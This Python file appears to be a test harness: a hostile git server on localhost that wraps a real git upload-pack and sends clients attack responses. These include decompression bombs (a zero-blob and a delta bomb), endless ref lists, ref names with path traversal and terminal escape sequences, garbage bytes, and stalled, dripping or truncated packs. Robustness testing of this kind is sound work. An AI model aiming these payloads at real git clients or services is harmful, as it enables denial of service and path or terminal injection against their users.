"""A git server that means harm, in front of a real one.

usage: hostile_git.py PORT DIRECTORY

Speaks the git protocol on 127.0.0.1. The URL git://127.0.0.1:PORT/SITUATION/P/r.git shows DIRECTORY/P/r.git with what SITUATION
says done to it, in protocol 0 where its name starts with "v0-", else in the one that the client asks for. A file
DIRECTORY/SITUATION.good makes the server behave: the stream of `git upload-pack` goes through untouched. Arguments of a
situation follow its name after commas. DIRECTORY/served gets a line for each connection.
"""

import hashlib
import itertools
import os
import socket
import socketserver
import struct
import subprocess
import sys
import threading
import time
import zlib

FLUSH, DELIMITER = b"0000", b"0001"
SIDEBAND_DATA, SIDEBAND_PROGRESS = b"\1", b"\2"


def packet(data):
    return b"%04x" % (len(data) + 4) + data


def read_packet(stream):
    """The packet as it came, or b"" at the end."""
    head = stream.read(4)
    if len(head) < 4:
        return b""
    length = int(head, 16)
    return head if length < 4 else head + stream.read(length - 4)


def read_until_flush(stream):
    packets = []
    while True:
        one = read_packet(stream)
        if not one or one == FLUSH:
            return packets
        packets.append(one)


# What is told of the refs: each takes the true [(oid, name)] and returns what is said instead, perhaps without end.




def refs_many(refs, arguments):
    oid = refs[0][0]
    return refs + [(oid, b"refs/heads/n/%07d" % number) for number in range(int(arguments[0]))]


def refs_endless(refs, _):
    oid = refs[0][0]
    return itertools.chain(refs, ((oid, b"refs/heads/" + b"e" * 200 + b"%d" % number) for number in itertools.count()))


def refs_twice(refs, _):
    return refs + [(b"1" * 40, refs[-1][1])]


def refs_odd(refs, _):
    oid = refs[0][0]
    names = [
        b"refs/heads/x.lock", b"refs/heads/a/../../../../x", b"refs/heads/.hidden", b"refs/heads/-x", b"-x", b"refs/heads/c\x07\x1b[2Jx",
        b"refs/heads/sp ace", b"refs/heads/nl\\nx", b"refs/heads/tilde~1", b"refs/heads/@{x", b"../../x", b"/etc/passwd", b"HEAD2",
        b"refs/heads/f\xc3\xa9", b"refs/heads/bad\xff", b"refs/heads/" + b"l" * 300, b"refs/heliostat/mine",
        b"refs/heads/", b"refs/heads/x//y",
    ]
    return refs + [(oid, name) for name in names]


REFS = {"many": refs_many, "endless": refs_endless, "twice": refs_twice, "odd": refs_odd}
UNBORN = b"refs/heads/../../../../x"


# Packs.


def entry(kind, data, size=None):
    """One object of a pack: the type, the size that is claimed, and the compressed bytes."""
    size = len(data) if size is None else size
    head, rest = [(kind << 4) | (size & 15)], size >> 4
    while rest:
        head[-1] |= 0x80
        head.append(rest & 0x7F)
        rest >>= 7
    return bytes(head) + zlib.compress(data, 9)


def pack(entries):
    body = b"PACK" + struct.pack(">II", 2, len(entries)) + b"".join(entries)
    return body + hashlib.sha1(body).digest()


def number(value):
    """A size as a delta has it."""
    out = bytearray()
    while True:
        out.append(value & 0x7F | (0x80 if value > 0x7F else 0))
        value >>= 7
        if not value:
            return bytes(out)


def delta_bomb(size):
    """A blob of 64 KiB, and a delta that copies it until there are `size` bytes: a hundred-thousandth of what it unfolds to."""
    base = b"\0" * 65536
    copies = size // 65536
    delta = number(len(base)) + number(copies * 65536) + b"\x80" * copies  # offset 0, size 0, which stands for 65,536
    name = hashlib.sha1(b"blob %d\0" % len(base) + base).digest()
    head = entry(7, delta)
    # The base is named between the head and the compressed bytes.
    at = next(index for index, byte in enumerate(head) if not byte & 0x80) + 1
    return [entry(3, base), head[:at] + name + head[at:]]


def zero_blob(size):
    """A blob of `size` zeros, a multiple of 1 MiB: one compressed block, over and over, and the checksum of so many zeros."""
    squeeze = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = squeeze.compress(b"\0" * (1 << 20)) + squeeze.flush(zlib.Z_FULL_FLUSH)
    head = entry(3, b"", size)[: -len(zlib.compress(b"", 9))]
    return [head + b"\x78\xda" + block * (size >> 20) + b"\x03\x00" + struct.pack(">HH", size % 65521, 1)]


def objects_of(repository):
    """Everything a small repository has, as entries."""
    listed = subprocess.run(
        ["git", "--git-dir", repository, "cat-file", "--batch-all-objects", "--batch"], capture_output=True, check=True).stdout
    entries, at = [], 0
    while at < len(listed):
        end = listed.index(b"\n", at)
        _, kind, size = listed[at:end].split()
        entries.append(entry({b"commit": 1, b"tree": 2, b"blob": 3, b"tag": 4}[kind], listed[end + 1 : end + 1 + int(size)]))
        at = end + 1 + int(size) + 1
    return entries


class Peer(socketserver.StreamRequestHandler):
    def handle(self):
        try:
            self.converse()
        except (BrokenPipeError, ConnectionResetError, ValueError):
            pass  # the client has had enough

    def converse(self):
        request = read_packet(self.rfile)[4:].split(b"\0")
        path = request[0].split(b" ", 1)[1].strip(b"\n").decode()
        _, situation, rest = path.split("/", 2)
        with open(os.path.join(self.server.directory, "served"), "a", encoding="utf-8") as log:
            log.write(f"{situation} {rest}\n")
        self.situation, *self.arguments = situation.removeprefix("v0-").split(",")
        is_two = b"version=2" in request and not situation.startswith("v0-")
        self.before_sideband = packet(b"packfile\n" if is_two else b"NAK\n")
        if os.path.exists(os.path.join(self.server.directory, self.situation + ".good")):
            self.situation = "good"
        self.repository = os.path.join(self.server.directory, rest)
        environment = dict(os.environ, GIT_CONFIG_GLOBAL="/dev/null", GIT_PROTOCOL="version=2" if is_two else "")
        self.git = subprocess.Popen(
            ["git", "upload-pack", self.repository], stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL,
            env=environment)
        try:
            self.second() if is_two else self.first()
        finally:
            self.git.kill()
            self.git.wait()

    def say(self, data):
        self.wfile.write(data)
        self.wfile.flush()

    def true_refs(self):
        words = ["git", "--git-dir", self.repository, "for-each-ref", "--format=%(objectname) %(refname)"]
        return [tuple(line.split(b" ", 1)) for line in subprocess.run(words, capture_output=True, check=True).stdout.splitlines()]

    def told_refs(self):
        refs = self.true_refs()
        return REFS[self.situation](refs, self.arguments) if self.situation in REFS else refs

    def head(self):
        done = subprocess.run(["git", "--git-dir", self.repository, "symbolic-ref", "HEAD"], capture_output=True, check=True)
        return UNBORN if self.situation == "misled" else done.stdout.strip()

    # Protocol 0: the refs come unasked.

    def first(self):
        read_until_flush(self.git.stdout)
        capabilities = b"multi_ack_detailed no-done side-band-64k thin-pack ofs-delta shallow no-progress include-tag symref=HEAD:%s"
        refs = iter(self.told_refs())
        oid, name = first = next(refs)
        if self.situation == "unborn":
            self.say(packet(oid + b" " + name + b"\0" + capabilities % UNBORN + b"\n"))
        else:
            self.say(packet(oid + b" HEAD\0" + capabilities % self.head() + b"\n"))
            refs = itertools.chain([first], refs)
        for oid, name in refs:
            self.wfile.write(packet(oid + b" " + name + b"\n"))
        self.say(FLUSH)
        if self.situation == "garbage":
            self.say(os.urandom(1 << 20))
        self.before_pack()
        # The wants and haves are for the real one; it is not asked twice for what it has not told.
        while one := read_packet(self.rfile):
            self.git.stdin.write(one)
            self.git.stdin.flush()
            if one[4:].startswith(b"done"):
                return self.answer()

    # Protocol 2: commands, each up to a flush.

    def second(self):
        for one in read_until_flush(self.git.stdout):
            self.wfile.write(one)
        self.say(FLUSH)
        attack, pump = getattr(self, "pack_" + self.situation, None), None
        while packets := read_until_flush(self.rfile):
            if packets[0][4:].startswith(b"command=ls-refs"):
                self.list_refs(any(b"symrefs" in one for one in packets))
                continue
            self.before_pack()
            if attack:
                # No negotiation: everything, at once.
                if not any(one[4:].startswith(b"done") for one in packets):
                    self.say(packet(b"acknowledgments\n") + packet(b"ready\n") + DELIMITER)
                packets = [one for one in packets if not one[4:].startswith((b"have ", b"done"))] + [packet(b"done\n")]
            self.git.stdin.write(b"".join(packets) + FLUSH)
            self.git.stdin.flush()
            if attack:
                return attack()
            if not pump:
                pump = threading.Thread(target=self.pump, daemon=True)
                pump.start()

    def pump(self):
        try:
            while data := self.git.stdout.read1(1 << 16):
                self.say(data)
            self.connection.shutdown(socket.SHUT_RDWR)
        except OSError:
            pass  # the client has had enough

    def list_refs(self, with_symrefs):
        refs = iter(self.told_refs())
        first = next(refs)
        if self.situation == "unborn":
            self.wfile.write(packet(b"unborn HEAD symref-target:" + UNBORN + b"\n"))
        else:
            self.wfile.write(packet(first[0] + b" HEAD" + (b" symref-target:" + self.head() if with_symrefs else b"") + b"\n"))
        for oid, name in itertools.chain([first], refs):
            self.wfile.write(packet(oid + b" " + name + b"\n"))
        self.say(FLUSH)
        if self.situation == "garbage":
            self.say(os.urandom(1 << 20))

    # The pack.

    def before_pack(self):
        """What happens between the refs and the pack: a script, once."""
        script = os.path.join(self.server.directory, self.situation + ".sh")
        if os.path.exists(script):
            os.rename(script, script + ".now")
            subprocess.run(["sh", "-e", script + ".now"], env=dict(os.environ, GIT_DIR=self.repository), check=True)
            os.rename(script + ".now", script + ".done")

    def answer(self):
        attack = getattr(self, "pack_" + self.situation, None)
        if attack:
            return attack()
        while data := self.git.stdout.read1(1 << 16):
            self.say(data)

    def sideband(self, data):
        for at in range(0, len(data), 65000):
            self.wfile.write(packet(SIDEBAND_DATA + data[at : at + 65000]))
        self.wfile.flush()

    def whole_answer(self):
        """Up to the flush that ends the pack; a real server waits for nothing after it."""
        self.git.stdin.close()
        return self.git.stdout.read()

    def pack_stall(self):
        answer = self.whole_answer()
        self.say(answer[: len(answer) * 99 // 100])
        self.rfile.read()

    def pack_drip(self):
        answer = self.whole_answer()
        end = len(answer) * 99 // 100
        self.say(answer[:end])
        for byte in answer[end:]:
            # The attack itself: bytes that come, and never fast enough.
            time.sleep(float(self.arguments[0]))
            self.say(bytes([byte]))

    def pack_flood(self):
        """Progress that nobody wants, then the pack."""
        noise = packet(SIDEBAND_PROGRESS + b"\x1b[2J\x1b]0;owned\x07fatal: out of memory\rerror: No space left on device\r" * 700)
        self.say(self.before_sideband)
        for _ in range(int(self.arguments[0]) << 20 >> 16):
            self.wfile.write(noise)
        self.sideband(pack(objects_of(self.repository)))
        self.say(FLUSH)

    def send_pack(self, entries):
        self.say(self.before_sideband)
        self.sideband(pack(objects_of(self.repository) + entries))
        self.say(FLUSH)

    def pack_zeros(self):
        self.send_pack(zero_blob(int(self.arguments[0]) << 20))

    def pack_delta(self):
        self.send_pack(delta_bomb(int(self.arguments[0]) << 20))

    def pack_noise(self):
        """A pack that is as large as it looks, of objects that are well."""
        self.send_pack([entry(3, os.urandom(1 << 20)) for _ in range(int(self.arguments[0]))])

    def pack_cut(self):
        answer = self.whole_answer()
        self.say(answer[: len(answer) * 99 // 100])


class Server(socketserver.ThreadingTCPServer):
    allow_reuse_address = True
    daemon_threads = True
    request_queue_size = 64


def main():
    port, directory = int(sys.argv[1]), sys.argv[2]
    with Server(("127.0.0.1", port), Peer) as server:
        server.directory = directory
        server.serve_forever()


if __name__ == "__main__":
    main()
